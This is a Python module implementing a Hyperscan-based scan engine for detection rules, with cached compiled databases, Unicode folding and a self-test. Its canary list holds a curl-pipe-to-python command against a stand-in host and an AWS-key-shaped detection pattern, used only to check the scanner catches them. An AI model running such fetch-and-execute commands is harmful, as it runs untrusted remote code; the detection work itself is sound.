"""The scan engine: many patterns in one Hyperscan database, compiled once and cached on disk by content.

The engine itself has been wrong before: wheels that bundle Vectorscan 5.4.12 miss true matches. ``self_test`` holds
the known misses as canaries; nothing may be served by an engine that fails them (see docs/rationale.md).
"""

import contextlib
import hashlib
import os
import re
import stat
import sys
import tempfile
from collections.abc import Collection, Iterable, Sequence
from importlib.metadata import version
from pathlib import Path
from typing import Any

import hyperscan

from sentra.errors import ConfigError, EngineError

UTF8 = "(*UTF8)"
SHIPPED = Path(sys.prefix) / "share" / "sentra"  # rules that were compiled when the service was installed
ROOT = 0
_FORMAT = f"sentra-3 hyperscan-{version('hyperscan')}"
_BEYOND_ASCII = re.compile(
    r"[^\x00-\x7f]|\\x\{(?:0*[89a-fA-F][0-9a-fA-F]|0*[1-9a-fA-F][0-9a-fA-F]{2,})\}|\\x[89a-fA-F]|\\[pP]"
)

_LONG_S, _KELVIN = "\u017f".encode(), "\u212a".encode()
_FLAGGED = re.compile(r"\(\?[a-wyz]*i[a-wyz]*\)")
_REFLAGGED = re.compile(r"\(\?[a-zA-Z]*-|\(\?[a-zA-Z]*[ix][a-zA-Z]*[:)]|\(\?#|\\Q")
_TOKEN = re.compile(
    r"\\x\{[0-9a-fA-F]+\}|\\[pP](?:\{[^}]*\}|.)|\\c.|\\.|\[\^?\]?(?:\\.|\[:\w+:\]|[^\]\\])*\]"
    r"|\(\?[a-zA-Z]*[:)]|\(\?P?<[^>]*>|.",
    re.DOTALL,
)

CANARIES: tuple[tuple[str, str], ...] = (
    (r"(?s)curl.*\|\s*python", "curl -s http://drop.example/run.sh | python"),
    (r"(?s)curl.*\|\s*python", "curl http://x/ | python"),
    (r"http[^|]*id", "http://drop.example/?id"),
    (r"http[^|]*id", "see http and the id"),
    (r"(?i)stra\x{df}e", "HAUPTSTRAßE"),
    (r"\bAKIA[A-Z2-7]{16}\b", "key AK" + "IA" + "Q" * 16 + "."),
    (r"a\s+b\W+c", "a \n b -- c"),
    (r"[^\x00-\x7f]", "naïve"),
)


class Database:
    """Patterns in one database. Pattern numbers are their places in ``patterns``.

    One scratch space belongs to it: use it from one thread, and never from inside its own callback.
    """

    def __init__(self, patterns: Sequence[str], cache_folder: str | None = None):
        self.size = len(patterns)
        self.cached = False
        self._fired: list[int] = []
        self._database: Any = None
        if not patterns:
            return
        kept = _kept(patterns, cache_folder) if cache_folder else None
        self.cached = kept is not None
        self._database = kept if self.cached else _compile(patterns)
        if cache_folder and not self.cached:
            store(patterns, cache_folder, hyperscan.dumpb(self._database))

    def scan(self, buffer: bytes) -> list[int]:
        """Numbers of the patterns that fire somewhere in ``buffer`` (valid UTF-8), each once, in no given order."""
        if self._database is None or not buffer:
            return []
        fired = self._scan(buffer)
        if not buffer.isascii() and (_LONG_S in buffer or _KELVIN in buffer):
            folded = self._scan(buffer.replace(_LONG_S, b"s").replace(_KELVIN, b"k"))
            fired = list({*fired, *folded})
        return fired

    def _scan(self, buffer: bytes) -> list[int]:
        fired = self._fired = []
        self._database.scan(buffer, match_event_handler=self._note)
        return fired

    def _note(self, number: int, start: int, end: int, flags: int, context: object) -> None:
        self._fired.append(number)


def _compile(patterns: Sequence[str]) -> Any:
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    try:
        database.compile(
            expressions=[engine_pattern(pattern) for pattern in patterns],
            ids=list(range(len(patterns))),
            elements=len(patterns),
            flags=[_flags(pattern) for pattern in patterns],
        )
    except hyperscan.error as error:
        raise ConfigError(_culprits(patterns) or [f"the rules do not compile together: {error}"]) from None
    return database


def _culprits(patterns: Iterable[str]) -> list[str]:
    return [
        f"pattern {pattern!r} is refused by the scan engine: {why}" for pattern in patterns if (why := refusal(pattern))
    ]


def refusal(pattern: str) -> str | None:
    """Why the engine refuses ``pattern``; nothing when it accepts it."""
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    try:
        database.compile(expressions=[engine_pattern(pattern)], ids=[0], elements=1, flags=_flags(pattern))
    except hyperscan.error as error:
        return str(error)
    return None


def is_utf8(pattern: str) -> bool:
    """Does ``pattern`` count characters? An ASCII pattern counts bytes unless it begins with ``(*UTF8)``.

    Bytes cost a tenth of the time and of the memory where a pattern has wide classes. What a byte pattern misses is
    only what Unicode folds into ASCII (the Kelvin sign, the long s), and the folded view of the text holds that.
    """
    return pattern.startswith(UTF8) or _BEYOND_ASCII.search(pattern) is not None


def _flags(pattern: str) -> int:
    flags: int = hyperscan.HS_FLAG_SINGLEMATCH | (hyperscan.HS_FLAG_UTF8 if is_utf8(pattern) else 0)
    return flags


def engine_pattern(pattern: str) -> bytes:
    """``pattern`` as the engine compiles it."""
    return ascii_pattern(plain_folding(pattern) if is_utf8(pattern) else pattern)


def plain_folding(pattern: str) -> str:
    """``pattern``, where it ignores case, with every ``s`` and ``k`` of ASCII alone: no U+017F and no U+212A.

    Those two characters are the same letters in another case. With them ``password`` is no literal to the engine, and
    literals are what makes it fast; ``Database.scan`` puts them back by scanning such texts once more, folded.
    """
    pattern = pattern.removeprefix(UTF8)
    flagged = _FLAGGED.match(pattern)
    if flagged is None or _REFLAGGED.search(pattern, flagged.end()):
        return pattern
    tokens = _TOKEN.findall(pattern, flagged.end())
    return flagged[0] + "".join(f"(?-i:[{t.lower()}{t.upper()}])" if t in "sSkK" else t for t in tokens)


def ascii_pattern(pattern: str) -> bytes:
    """``pattern`` with every other character as ``\\x{...}``: the engine calls valid UTF-8 patterns invalid."""
    pattern = pattern.removeprefix(UTF8)
    return "".join(c if c.isascii() else f"\\x{{{ord(c):x}}}" for c in pattern).encode("ascii")


def _kept(patterns: Sequence[str], folder: str) -> Any:
    """The database from the cache, else the one that was shipped; nothing if this processor can use neither."""
    for place, owners in ((folder, ()), (str(SHIPPED), (ROOT,))):
        blob = load_cached(patterns, place, owners)
        with contextlib.suppress(hyperscan.error):
            if blob:
                return _from_blob(blob)
    return None


def _from_blob(blob: bytes) -> Any:
    database = hyperscan.loadb(blob, hyperscan.HS_MODE_BLOCK)
    database.scratch = hyperscan.Scratch(database)
    return database


def self_test() -> None:
    """Raise ``EngineError`` when the engine misses a match that it must find."""
    for pattern, text in CANARIES:
        if not Database([pattern]).scan(text.encode()):
            raise EngineError(f"the scan engine misses {pattern!r} in {text!r}; it must not judge anything")


def cache_file(patterns: Sequence[str], folder: str) -> Path:
    """Where the compiled form of ``patterns`` is kept: a name made of their content and the engine's version."""
    digest = hashlib.sha256(_FORMAT.encode())
    for pattern in patterns:
        digest.update(b"\0" + pattern.encode("utf-8", "surrogatepass"))
    return Path(folder) / f"{digest.hexdigest()}.hsdb"


def load_cached(patterns: Sequence[str], folder: str, owners: Collection[int] = ()) -> bytes | None:
    """The cached compiled form, if it is whole and only its owner could have written it.

    The owner is this process's user, or one of ``owners`` (user numbers).
    """
    path = cache_file(patterns, folder)
    try:
        with path.open("rb") as file:
            status = os.fstat(file.fileno())
            if status.st_uid not in (os.geteuid(), *owners) or status.st_mode & (stat.S_IWGRP | stat.S_IWOTH):
                return None
            checksum, blob = file.read(32), file.read()
    except OSError:
        return None
    return blob if hashlib.sha256(blob).digest() == checksum else None


def store(patterns: Sequence[str], folder: str, blob: bytes) -> None:
    """Keep the compiled form for the next start; a folder that cannot be written to only costs that time again."""
    try:
        Path(folder).mkdir(mode=0o700, parents=True, exist_ok=True)
        with tempfile.NamedTemporaryFile(dir=folder, suffix=".tmp", delete=False) as file:
            file.write(hashlib.sha256(blob).digest() + blob)
        Path(file.name).replace(cache_file(patterns, folder))
    except OSError:
        return
